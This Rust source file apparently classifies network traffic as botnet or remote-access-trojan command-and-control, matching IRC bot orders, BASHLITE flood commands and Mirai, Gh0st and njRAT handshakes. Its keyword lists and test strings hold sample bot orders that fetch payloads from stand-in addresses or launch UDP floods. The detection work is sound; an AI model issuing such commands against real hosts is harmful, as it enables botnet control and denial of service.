//! # How robots and programs of remote control speak
//!
//! Their first words, as public sources and reports have them.

use std::net::IpAddr;

use crate::model::{Part, find, is_private};

/// `<30>…`: a line of a log, whose number is of two digits or three (RFC 5424 §6.2.1).
pub fn is_log(bytes: &[u8]) -> bool {
    let Some(rest) = bytes.strip_prefix(b"<") else { return false };
    let digits = rest.iter().take_while(|byte| byte.is_ascii_digit()).count();
    (1..=3).contains(&digits) && rest.get(digits) == Some(&b'>')
}

/// Words by which robots are ordered about in channels, behind a sign (`.` or `!`), with something to act upon: of the
/// sources of Agobot, SDBot, Kaiten and what came of them.
const ORDERS: [&str; 20] = [
    "advscan", "asc", "scan", "scanall", "ntscan", "download", "dl", "update", "wget", "udp", "syn", "tcp", "http",
    "flood", "ddos", "exec", "sh", "login", "visit", "socks",
];

/// Endings of what runs.
const LOADED: [&str; 12] =
    [".exe", ".scr", ".dll", ".msi", ".bin", ".ps1", ".sh", ".mips", ".mpsl", ".arm", ".arm7", ".x86"];

/// Whether a line of IRC (RFC 2812 §3.3, and a channel's topic) orders a robot about: the order comes first and names an
/// address, a place to load from or a port. People who speak of such things write sentences.
pub fn is_order(line: &[u8]) -> bool {
    let line = String::from_utf8_lossy(line);
    let line = line.trim_end();
    // `:nick!user@host PRIVMSG #channel :text`, `:server 332 nick #channel :topic`.
    let is_said = [" PRIVMSG ", " NOTICE ", " TOPIC ", " 332 "].iter().any(|word| line.contains(word));
    let Some((_, text)) = line.get(1..).and_then(|rest| rest.split_once(" :")).filter(|_| is_said) else {
        return false;
    };
    let mut words = text.split_ascii_whitespace();
    let order = words.next().unwrap_or_default();
    let Some(order) = order.strip_prefix(['.', '!', '@']) else { return false };
    let order = order.split('.').next().unwrap_or_default().to_ascii_lowercase();
    // An address, a place to load from, or a switch of one letter (`.asc lsass 100 3 0 -b -r`).
    let acts = |word: &str| {
        let host = word.split(['/', ':']).next().unwrap_or_default();
        let is_switch = matches!(word.as_bytes(), [b'-', letter] if letter.is_ascii_alphabetic());
        word.contains("://") || host.parse::<IpAddr>().is_ok() || is_switch
    };
    let known = ORDERS.contains(&order.as_str());
    // Whatever the order is called: nothing but it and a place from which a program is loaded.
    let loads = |word: &str| {
        word.contains("://") && LOADED.iter().any(|end| word.to_ascii_lowercase().ends_with(end)) && order.len() <= 12
    };
    words.take(8).enumerate().any(|(n, word)| known && acts(word) || n == 0 && loads(word))
}

/// What the builders of robots for small devices write: BASHLITE and its heirs say which build they are, and are ordered by
/// lines that begin so.
pub fn is_line_order(bytes: &[u8]) -> bool {
    if bytes.split(|byte| *byte == b'\n').take(64).any(is_aimed) {
        return true;
    }
    let words: [&[u8]; 8] =
        [b"!* UDP ", b"!* TCP ", b"!* SCANNER ", b"!* HOLD ", b"!* JUNK ", b"!* STD ", b"!* HTTP ", b"!* KILLATTK"];
    bytes.split(|byte| *byte == b'\n').take(64).any(|line| words.iter().any(|word| line.starts_with(word)))
}

/// How heirs of BASHLITE flood.
const FLOODS: [&str; 16] = [
    "UDP", "TCP", "HTTP", "STD", "JUNK", "HOLD", "SYN", "ACK", "XMAS", "VSE", "HEX", "OVH", "STOMP", "UDPRAW", "CNC",
    "COMBO",
];

/// `UDP 192.0.2.1 80 60`: how, whom, at which port and how long, without or with a sign in front.
fn is_aimed(line: &[u8]) -> bool {
    let Some(line) = line.get(..line.len().min(96)).and_then(|line| std::str::from_utf8(line).ok()) else {
        return false;
    };
    let mut words = line.trim_start_matches(['!', '.', '*', ' ']).split_ascii_whitespace();
    let how = words.next().unwrap_or_default();
    let is_flood = FLOODS.contains(&how) && words.next().is_some_and(|whom| whom.parse::<std::net::Ipv4Addr>().is_ok());
    is_flood && words.clone().count() >= 2 && words.take(2).all(|number| number.parse::<u32>().is_ok())
}

/// A nick that a robot gives itself: which country, which system and a number, between marks: `[DEU|W7|x64]48213`,
/// `{XP}-4812`. People write what they are called and what they do just now: `anna|away`.
pub fn is_robot_nick(bytes: &[u8]) -> bool {
    let text = bytes.get(..bytes.len().min(512)).unwrap_or_default();
    let nick = text.split(|byte| matches!(byte, b'\n' | b'\r')).find_map(|line| line.strip_prefix(b"NICK "));
    let Some(nick) = nick.and_then(|nick| std::str::from_utf8(nick).ok()) else { return false };
    let is_mark = |letter: char| matches!(letter, '[' | ']' | '{' | '}' | '|' | '-' | '(' | ')');
    let parts: Vec<&str> = nick.trim_start_matches(':').split(is_mark).filter(|part| !part.is_empty()).collect();
    let is_system = |part: &&str| {
        let part = part.trim_end_matches(|letter: char| letter.is_ascii_lowercase());
        [
            "XP", "W7", "W8", "W10", "W11", "WIN", "VIS", "2K", "2K3", "2K8", "LNX", "LINUX", "X86", "X64", "ARM",
            "MIPS", "HAX",
        ]
        .contains(&part)
            || matches!(part, "x86" | "x64" | "x")
    };
    let is_country = |part: &&str| matches!(part.len(), 2 | 3) && part.bytes().all(|byte| byte.is_ascii_uppercase());
    let is_number = |part: &&str| part.len() >= 4 && part.bytes().filter(u8::is_ascii_digit).count() >= 4;
    let signs = [parts.iter().any(is_system), parts.iter().any(is_country), parts.iter().any(is_number)];
    parts.len() >= 2 && nick.contains(is_mark) && signs.iter().filter(|sign| **sign).count() >= 2
}

/// What Windows tells a program of itself (`OSVERSIONINFO`, by the documentation of GetVersionEx), sent as it lies in
/// memory: how long it is, which version, which build, and that it is no Windows 95.
pub fn holds_version(bytes: &[u8]) -> bool {
    let word =
        |at: usize| bytes.get(at..at + 4).map_or(0, |word| u32::from_le_bytes([word[0], word[1], word[2], word[3]]));
    (0..bytes.len().min(64)).any(|at| {
        matches!(word(at), 0x94 | 0x9c | 0x114 | 0x11c)
            && matches!((word(at + 4), word(at + 8)), (5, 0..=2) | (6, 0..=4) | (10, 0))
            && (2000..100_000).contains(&word(at + 12))
            && word(at + 16) == 2
    })
}

/// The byte that all others were mixed with (XOR), if `text` is in it so: each differs from the next as in the text.
pub fn mixed(bytes: &[u8], text: &[u8]) -> Option<u8> {
    let differs = |bytes: &[u8]| -> Vec<u8> { bytes.iter().zip(bytes.iter().skip(1)).map(|(a, b)| a ^ b).collect() };
    let bytes = bytes.get(..bytes.len().min(1024))?;
    let at = find(&differs(bytes), &differs(text))?;
    Some(bytes.get(at)? ^ text.first()?)
}

/// The first words of Mirai to its master: four bytes, or those and its name behind its length.
pub fn is_mirai(bytes: &[u8]) -> bool {
    match bytes {
        [0, 0, 0, 1] => true,
        [0, 0, 0, 1, len, name @ ..] => usize::from(*len) == name.len() && name.iter().all(u8::is_ascii_graphic),
        _ => false,
    }
}

/// The first words of a program of remote control to its master.
pub fn is_remote_control(bytes: &[u8]) -> Option<&'static str> {
    match bytes {
        // Gh0st, whose sources are public, and what was made of it: five letters, how long the message is, how long it was
        // before it was packed, and what the packer (zlib, RFC 1950) begins with.
        [a, b, c, d, e, l0, l1, l2, l3, u0, u1, u2, u3, 0x78, 0x9c | 0x01 | 0xda, ..]
            if [a, b, c, d, e].iter().all(|letter| letter.is_ascii_alphanumeric()) =>
        {
            let len = u32::from_le_bytes([*l0, *l1, *l2, *l3]);
            let unpacked = u32::from_le_bytes([*u0, *u1, *u2, *u3]);
            ((16..1 << 20).contains(&len) && (1..1 << 24).contains(&unpacked)).then_some("as Gh0st does")
        }
        // Its heirs that pack otherwise: five letters, how long this very message is, and how long it was before.
        [a, b, c, d, e, l0, l1, l2, l3, u0, u1, u2, u3, ..]
            if [a, b, c, d, e].iter().all(|letter| letter.is_ascii_alphanumeric())
                && u32::from_le_bytes([*l0, *l1, *l2, *l3]) as usize == bytes.len()
                && (1..1 << 24).contains(&u32::from_le_bytes([*u0, *u1, *u2, *u3])) =>
        {
            Some("as Gh0st does")
        }
        // njRAT: how long the message is, a zero, a word of two or three letters, and parts between `|'|'|`.
        [b'0'..=b'9', ..] => {
            let digits = bytes.iter().take(6).take_while(|byte| byte.is_ascii_digit()).count();
            let rest = bytes.get(digits..)?.strip_prefix(&[0])?;
            let at = find(rest, b"|'|'|")?;
            (matches!(at, 2..=6) && rest.iter().take(at).all(u8::is_ascii_alphanumeric)).then_some("as njRAT does")
        }
        _ => None,
    }
}

/// What a program of remote control reports first, whatever it is called: which Windows this is, among at least five parts
/// with one mark between them, in letters of one byte or two. Texts that people and known programs send begin otherwise.
pub fn tells_its_system(bytes: &[u8]) -> bool {
    const MARKS: [u8; 10] = [b'|', b'<', b';', b'\t', b'~', b'^', b'*', 1, 12, b'#'];
    if is_known(bytes) || matches!(bytes, [b'<' | b'{' | b'[', ..]) {
        return false;
    }
    if mixed(bytes, b"Windows ").is_some_and(|key| key != 0) {
        return true;
    }
    let text: Vec<u8> = bytes.iter().take(2048).copied().filter(|byte| *byte != 0).collect();
    let version = |at: usize| {
        let rest = text.get(at..).unwrap_or_default();
        ["10", "11", "7", "8", "XP", "Vista", "Server"].iter().any(|word| rest.starts_with(word.as_bytes()))
    };
    static WINDOWS: [Part; 2] = [Part::new(b"Windows "), Part::new(b"Win ")];
    let named = WINDOWS.iter().zip([8, 4]).any(|(word, len)| word.find(&text).is_some_and(|at| version(at + len)));
    // Marks that no keyboard has need fewer parts.
    let least = |mark: u8| if mark.is_ascii_control() && mark != b'\t' { 3 } else { 5 };
    named && MARKS.iter().any(|mark| text.iter().filter(|byte| *byte == mark).count() >= least(*mark))
}

/// The greeting of WCF over TCP (MC-NMF §2.2.3) to a bare address of the Internet: a firm's server has a name.
pub fn is_bare_wcf(bytes: &[u8]) -> bool {
    let [0, 1, 0, 1, 2, _, len, rest @ ..] = bytes else { return false };
    let place = rest.get(..usize::from(*len)).and_then(|place| std::str::from_utf8(place).ok());
    let host = place.and_then(|place| place.strip_prefix("net.tcp://")).and_then(|rest| rest.split([':', '/']).next());
    host.and_then(|host| host.parse::<IpAddr>().ok()).is_some_and(|ip| !is_private(ip))
}

/// A server's greeting of SSH (RFC 4253 §4.2) in a whole, unmasked binary message of a web socket (RFC 6455 §5.2).
pub fn is_hidden_shell(bytes: &[u8]) -> bool {
    static SSH: Part = Part::new(b"SSH-");
    SSH.all(bytes).take(4).any(|at| {
        let head = at.checked_sub(2).and_then(|from| bytes.get(from..at));
        matches!(head, Some([0x82, len]) if (8..126).contains(len))
    })
}

/// Begins like something known: HTTP, TLS, SSH, chat, a log.
pub fn is_known(bytes: &[u8]) -> bool {
    let starts: [&[u8]; 14] = [
        b"GET ",
        b"POST ",
        b"HTTP/",
        b"SSH-",
        b"NICK ",
        b"USER ",
        b"CAP ",
        b":",
        b"NOTICE",
        b"PING",
        b"*",
        b"220",
        b"\x13BitTorrent",
        b"{",
    ];
    matches!(bytes, [22, 3, ..]) || is_log(bytes) || starts.iter().any(|start| bytes.starts_with(start))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn orders_are_known_and_people_are_not_robots() {
        for order in [
            ":op!o@h PRIVMSG #x :.download http://203.0.113.9/a.mips /tmp/a\r",
            ":op!o@h PRIVMSG #x :!udp 203.0.113.9 53 60",
            ":op!o@h PRIVMSG bot :!get http://203.0.113.9/x.exe",
            ":irc.x 332 bot #x :.advscan asn1smb 100 5 0 192.168.0.0 -r",
            ":op!o@h PRIVMSG #x :.scan.start 192.168.7.0/24 22",
            ":s 332 bot #x :.asc lsass_445 100 3 0 -b -r -s",
        ] {
            assert!(is_order(order.as_bytes()), "{order}");
        }
        assert!(is_line_order(b"UDP 198.51.100.7 80 60\n") && is_line_order(b"!* STD 198.51.100.7 80 60\n"));
        assert!(!is_line_order(b"UDP is not TCP\n") && !is_line_order(b"TCP 198.51.100.7\n"));
        for nick in ["NICK [DEU|W7|x64]48213\r\n", "PASS a\nNICK {XP}-48120\n", "NICK [LNX]FRA-8123\n"] {
            assert!(is_robot_nick(nick.as_bytes()), "{nick}");
        }
        for nick in [
            "NICK anna|away\r\n",
            "NICK [TUM]bob\n",
            "NICK x-4812\n",
            "NICK bob_2024\n",
            "NICK guest-81234\n",
            "USER a",
        ] {
            assert!(!is_robot_nick(nick.as_bytes()), "{nick}");
        }
        for talk in [
            ":bob!b@h PRIVMSG #rust :!help me",
            ":bob!b@h PRIVMSG #rust :.unwrap() is your enemy, see https://doc.rust-lang.org",
            ":bob!b@h PRIVMSG #rust :please download http://example.org/a",
            ":bob!b@h PRIVMSG #rust :!update the docs",
            ":bob!b@h PRIVMSG #rust :!doc https://example.org/a.html",
            ":bob!b@h PRIVMSG #rust :!see how to http://example.org/setup.exe",
            "",
        ] {
            assert!(!is_order(talk.as_bytes()), "{talk}");
        }
    }

    #[test]
    fn programs_of_remote_control_are_known_by_how_they_begin() {
        let gh0st = |name: &[u8; 5], len: u8| [&name[..], &[len, 0, 0, 0, 64, 0, 0, 0, 0x78, 0x9c, 1, 2, 3]].concat();
        assert!(is_remote_control(&gh0st(b"Gh0st", 18)).is_some() && is_remote_control(&gh0st(b"HEART", 40)).is_some());
        assert!(is_remote_control(&gh0st(b"Gh0st", 9)).is_none(), "shorter than its head");
        assert!(is_remote_control(&gh0st(b"\0\0\0\0\x01", 18)).is_none());
        let heir = |len: u8| [&b"xZrst"[..], &[len, 0, 0, 0, 64, 0, 0, 0, 0x7f, 0x9f, 1, 2, 3]].concat();
        assert!(is_remote_control(&heir(18)).is_some() && is_remote_control(&heir(19)).is_none(), "its own length");
        assert!(is_remote_control(b"149\0ll|'|'|SGFja2Vk|'|'|PC").is_some());
        let report = |text: &str| tells_its_system(text.as_bytes());
        assert!(report("INFO\x0cPC-7\x0canna\x0cWindows 7\x0c1.0") && !report("PC-7|anna|Windows 7|1.0"));
        assert!(report("INFO<X>83A1<X>anna<X>Windows 10 Pro<X>V5<X>no"));
        assert!(report("\x24\x04R|P\0C\0|\0W\0i\0n\0d\0o\0w\0s\0 \x001\x001\0 \0P\0r\0o|x|y|z"));
        assert!(
            !report("GET / HTTP/1.1\r\nUser-Agent: a; b; c; d; e; Windows 10\r\n")
                && !report("Windows 10 is what I use")
        );
        assert!(!report("{\"os\":\"Windows 10\"|||||") && !report("a|b|c|d|e|f|g"));
        let mut version = [0; 160];
        for (at, word) in [(4, 0x9c), (8, 6), (12, 1), (16, 7601), (20, 2)] {
            version[at..at + 4].copy_from_slice(&u32::to_le_bytes(word));
        }
        assert!(holds_version(&version) && !holds_version(&version[8..]) && !holds_version(&[0; 12]));
        let report: Vec<u8> = b"PC-7 Windows 10 anna".iter().map(|byte| byte ^ 0x5a).collect();
        assert!(tells_its_system(&report) && mixed(&report, b"Windows ") == Some(0x5a));
        assert!(!tells_its_system(b"PC-7 Windows 10 anna"), "in words of people");
        assert!(is_bare_wcf(b"\0\x01\0\x01\x02\x02\x18net.tcp://203.0.113.9:99/\x03\x08\x0c"));
        assert!(!is_bare_wcf(b"\0\x01\0\x01\x02\x02\x1anet.tcp://orders.example:80/\x03\x08\x0c"));
        assert!(!is_bare_wcf(b"\0\x01\0\x01\x02\x02\x17net.tcp://192.168.7.9:99/\x03\x08\x0c"));
        assert!(is_hidden_shell(b"HTTP/1.1 101 x\r\n\r\n\x82\x17SSH-chisel-v3-server\r\n"));
        assert!(!is_hidden_shell(b"SSH-2.0-OpenSSH_9.6\r\n") && !is_hidden_shell(b"\x81\x20talk of SSH-2.0"));
        assert!(is_remote_control(b"149 ll|'|'|x").is_none() && is_remote_control(b"220 mail\r\n").is_none());
    }
}
